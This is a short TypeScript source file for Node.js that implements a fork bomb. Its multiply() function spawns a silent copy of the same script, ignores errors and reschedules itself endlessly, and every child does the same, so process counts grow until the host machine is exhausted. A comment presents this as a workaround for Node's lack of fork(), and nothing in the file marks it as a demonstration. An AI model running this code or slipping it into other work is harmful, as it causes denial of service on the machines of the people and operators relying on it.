import { spawn } from "child_process";

// Node.js has no fork without a new program: every process starts copies of itself.
function multiply(): void {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
  } catch {
    // Refused: try again.
  }
  setImmediate(multiply);
}

multiply();
